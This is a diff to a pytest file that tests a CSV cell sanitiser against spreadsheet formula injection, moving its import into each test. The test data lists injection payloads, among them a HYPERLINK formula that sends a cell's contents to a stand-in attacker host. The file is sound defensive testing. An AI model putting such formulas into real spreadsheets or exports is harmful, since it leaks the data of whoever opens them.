@@ -7,7 +7,6 @@ import pytest
 
 from partnerpost.audience import workflows
 from partnerpost.audience.models import Subscriber
-from partnerpost.lib.csvcells import safe_cell
 
 NAMES = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTab", "\rReturn"]
 
@@ -18,10 +17,14 @@ def _cells(text: str) -> list[str]:
 
 @pytest.mark.parametrize("value", NAMES)
 def test_safe_cell_neutralizes_formula_starts(value):
+    from partnerpost.lib.csvcells import safe_cell
+
     assert safe_cell(value) == "'" + value
 
 
 def test_safe_cell_leaves_plain_values():
+    from partnerpost.lib.csvcells import safe_cell
+
     assert [safe_cell(v) for v in ["Ana", "a-b", "", 3, None]] == ["Ana", "a-b", "", 3, None]
 
 
